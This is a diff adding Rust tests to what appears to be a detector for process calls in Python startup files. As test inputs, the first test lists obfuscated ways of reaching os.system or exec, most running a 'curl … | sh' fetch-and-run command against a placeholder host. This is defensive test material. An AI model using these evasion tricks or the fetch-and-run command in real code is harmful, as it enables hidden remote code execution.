@@ -238,3 +238,56 @@ fn socket_data_is_tainted_and_dup2_names_its_source() {
         .unwrap();
     assert_eq!(dup.arg.as_deref(), Some("socket.socket.fileno -> 0"));
 }
+
+/// Calls reached through a computed lookup instead of a plain name (issue 21, item 1):
+/// each must resolve to the process call it really is, in the file's own context.
+#[test]
+fn indirect_calls_resolve_to_their_target() {
+    let cmd = "'curl https://example.invalid/x | sh'";
+    let cases = [
+        format!("import os; getattr(os, 'sys'+'tem')({cmd})"),
+        format!("import sys; sys.modules['os'].system({cmd})"),
+        format!("import sys; sys.modules.get('o'+'s').system({cmd})"),
+        format!("import os; os.__dict__['system']({cmd})"),
+        format!("import os; os.__dict__.get('system')({cmd})"),
+        format!("import os; vars(os)['system']({cmd})"),
+        format!("import os, operator; operator.methodcaller('system', {cmd})(os)"),
+        format!("import os, operator; operator.attrgetter('system')(os)({cmd})"),
+        format!("import os; (lambda f: f({cmd}))(os.system)"),
+        format!("import os; (lambda f, c: f(c))(os.system, {cmd})"),
+        format!("getattr(__import__('os'), 'system')({cmd})"),
+        format!("import importlib; getattr(importlib.import_module('os'), 'popen')({cmd})"),
+        format!("globals()['__builtins__']['exec']('import os')"),
+    ];
+    for src in &cases {
+        let ev = kinds(src, FileRole::Startup);
+        assert!(
+            ev.iter()
+                .any(|e| matches!(e.0, EventKind::ProcessSpawn | EventKind::Exec)
+                    && e.2 == ExecutionContext::Startup),
+            "{src}: {ev:?}"
+        );
+    }
+}
+
+/// The same lookups on ordinary objects name nothing dangerous.
+#[test]
+fn indirect_lookups_of_ordinary_attributes_stay_quiet() {
+    let cases = [
+        "import os; getattr(os, 'sep')",
+        "import os; getattr(obj, name)()",
+        "import sys; sys.modules['json'].dumps({})",
+        "import operator; operator.attrgetter('name')(x)",
+        "import operator; sorted(xs, key=operator.methodcaller('lower'))",
+        "(lambda x: x + 1)(2)",
+        "cfg = vars(args)['verbose']",
+    ];
+    for src in cases {
+        let ev = kinds(src, FileRole::Module);
+        assert!(
+            !ev.iter()
+                .any(|e| matches!(e.0, EventKind::ProcessSpawn | EventKind::Exec)),
+            "{src}: {ev:?}"
+        );
+    }
+}
